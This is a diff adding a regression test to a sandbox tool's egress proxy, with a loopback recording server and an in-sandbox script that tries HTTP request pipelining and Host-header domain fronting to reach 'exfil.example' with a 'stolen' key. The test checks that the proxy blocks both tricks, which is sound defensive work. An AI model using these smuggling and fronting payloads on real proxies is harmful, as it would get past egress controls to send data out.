@@ -10,6 +10,7 @@ from pathlib import Path
 from typing import Any
 
 import orjson
+import pytest
 from gateway_attack_kit import MCPWARD, SECRET
 
 #: A server whose tools are harmless, but whose resources and prompts carry its secret and an
@@ -183,3 +184,106 @@ command = ["{sys.executable}", "{script}"]
                     break  # refused (a limit): what the gateway holds is then bounded
         grown_mb = (memory_kb(process.pid) - before) / 1024
         assert grown_mb < 64, f"the gateway held {grown_mb:.0f} MB for a server that does not read"
+
+
+class _RecordingSite:
+    """An allowed HTTP/1.1 site on loopback that keeps connections open and records the
+    request line and Host header of every request it is sent."""
+
+    def __init__(self) -> None:
+        import socket
+        import threading
+
+        self.seen: list[str] = []
+        self.socket = socket.socket()
+        self.socket.bind(("127.0.0.1", 0))
+        self.socket.listen(8)
+        self.socket.settimeout(0.2)
+        self.port = int(self.socket.getsockname()[1])
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:
+                continue
+            with connection:
+                connection.settimeout(5)
+                buffered = b""
+                for _ in range(20):  # bounded: requests on one connection
+                    try:
+                        while b"\r\n\r\n" not in buffered:
+                            chunk = connection.recv(4096)
+                            if not chunk:
+                                raise ConnectionError
+                            buffered += chunk
+                    except OSError:
+                        break
+                    head, buffered = buffered.split(b"\r\n\r\n", 1)
+                    lines = head.decode("latin-1").split("\r\n")
+                    host = next(
+                        (x.split(":", 1)[1].strip() for x in lines if x.lower().startswith("host:")), ""
+                    )
+                    self.seen.append(f"{lines[0]} host={host}")
+                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(timeout=5)
+        self.socket.close()
+
+
+#: Run inside the sandbox: through the proxy it was given (HTTP_PROXY), one request to the
+#: allowed host and, on the same connection, one for another host; then one whose URL names
+#: the allowed host but whose Host header names another.
+_SMUGGLER = """
+import os, socket, urllib.parse
+proxy = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
+def exchange(payload, answers):
+    with socket.create_connection((proxy.hostname, proxy.port), timeout=10) as tcp:
+        tcp.sendall(payload)
+        got = b""
+        while got.count(b"HTTP/1.1 ") < answers:
+            chunk = tcp.recv(4096)
+            if not chunk:
+                break
+            got += chunk
+        return got
+exchange(b"GET http://api.example.com/ok HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n"
+         b"GET http://exfil.example/upload?key=stolen HTTP/1.1\\r\\nHost: exfil.example\\r\\n\\r\\n", 2)
+exchange(b"GET http://api.example.com/fronted HTTP/1.1\\r\\nHost: exfil.example\\r\\n\\r\\n", 1)
+print("done")
+"""
+
+
+@pytest.mark.parametrize("backend", ["landlock", "bubblewrap"])
+def test_the_proxy_lets_no_request_reach_a_host_it_did_not_check(tmp_path: Path, backend: str) -> None:
+    """The egress proxy checked the first request of a plain-HTTP connection and then piped
+    the rest of it to that host unread: a second request on the same connection, for a host
+    outside the allow list, was sent on (and never recorded), and so was a Host header naming
+    another site than the URL (a virtual host of the allowed address: domain fronting)."""
+    from mcpward.sandbox import backends
+    from needs import missing
+
+    availability = next(b for b in backends() if b.name == backend).check()
+    if not availability.works:
+        missing(backend, availability.why)
+    site = _RecordingSite()
+    try:
+        profile = tmp_path / "profile.toml"
+        profile.write_text(
+            '[network]\nallow = ["api.example.com:80"]\n'
+            f'resolve = {{ "api.example.com:80" = "127.0.0.1:{site.port}" }}\n',
+            encoding="utf-8",
+        )
+        command = [*MCPWARD, "sandbox", "run", "--profile", str(profile), "--backend", backend,
+                   "--audit-log", str(tmp_path / "audit.jsonl"), "--", sys.executable, "-c", _SMUGGLER]  # fmt: skip
+        ran = subprocess.run(command, capture_output=True, timeout=120, check=False)
+        assert b"done" in ran.stdout, ran.stderr.decode()[-2000:]
+    finally:
+        site.close()
+    assert any("/ok " in line for line in site.seen), site.seen  # the allowed request went through
+    assert not [line for line in site.seen if "exfil.example" in line or "/fronted" in line], site.seen
